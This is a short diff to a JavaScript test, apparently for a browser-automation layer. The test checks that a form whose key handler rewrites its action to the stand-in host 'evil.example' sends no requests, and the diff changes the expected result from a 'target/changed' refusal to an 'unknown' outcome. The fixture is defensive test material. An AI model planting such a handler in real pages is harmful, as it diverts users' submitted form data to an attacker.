@@ -206,7 +206,7 @@ describe('a key', () => {
     const { act, requests } = await pages.open(
       `<form method=post action=/s><input aria-label=F onkeydown="this.form.setAttribute('action', '//evil.example')"></form>`
     )
-    expect(await act(press('Enter', 'F'), { class: 'submit' })).toMatchObject({ refusal: { code: 'target/changed' } })
+    expect(await act(press('Enter', 'F'), { class: 'submit' })).toEqual({ kind: 'unknown' })
     expect(requests).toEqual([])
   })
 
